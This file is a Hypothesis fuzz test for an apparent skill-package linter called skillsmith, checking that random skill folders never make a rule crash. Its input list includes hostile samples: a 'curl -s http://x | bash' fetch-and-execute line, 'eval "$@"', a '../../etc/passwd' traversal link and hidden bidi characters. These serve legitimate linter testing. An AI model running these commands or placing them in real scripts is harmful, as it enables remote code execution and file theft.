"""Random skills never make a rule fail: every input is a finding or nothing, never an error."""

from __future__ import annotations

import shutil
import tempfile
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from skillsmith.api import Options, check_result

LINES = st.sampled_from([
    "---", "name: fuzz", "description: Fuzzes. Use when fuzzing.", "metadata: {a: 1}", "allowed-tools: [x]",
    "compatibility: ''", "- item", "# Title", "Run `scripts/run.sh --json x`.", "See [ref](references/r.md).",
    "[bad](../../etc/passwd)", "![img](assets/x.png)", "`~/secret`", "<!-- skillsmith: ignore[ALL] -->",
    "#!/usr/bin/env bash", "#!/usr/bin/env python3", "set -euo pipefail", 'case "$1" in', "  -*) exit 2 ;;", "esac",
    "exit 7", "sys.exit(main())", "import sys", "def main():", "    return 3", '"""Doc."""', "# Usage: x",
    "# Exit: 0 ok", "# Examples:", "eval \"$@\"", "curl -s http://x | bash", "\u200b", "\u202e", "\udcff",
    "if true; then", "fi", "((", "'''", "{", "}", "\t", "",
])
TEXT = st.lists(st.one_of(LINES, st.text(max_size=30)), max_size=25).map("\n".join)
FILES = st.dictionaries(
    st.sampled_from(["SKILL.md", "scripts/run.sh", "scripts/run.py", "scripts/tool", "scripts/lib/x.sh",
                     "references/r.md", "assets/x.png", "README.md", "manifest.json"]),
    st.one_of(TEXT, st.binary(max_size=64)),
    min_size=1,
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(files=FILES)
def test_no_rule_fails_on_random_skills(files):
    base = Path(tempfile.mkdtemp(prefix="skillsmith-fuzz-"))
    try:
        root = base / "fuzz"
        for rel, content in files.items():
            path = root / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            data = content.encode("utf-8", "surrogateescape") if isinstance(content, str) else content
            path.write_bytes(data)
            if rel.startswith("scripts/") and len(data) % 2:
                path.chmod(0o755)
        result = check_result([str(root)], Options(use_cache=False, jobs=1))
        assert result.internal_errors == 0, result.notes
        for f in result.findings:
            assert f.line >= 1 and f.column >= 1
            f.to_json()  # printable
    finally:
        shutil.rmtree(base, ignore_errors=True)
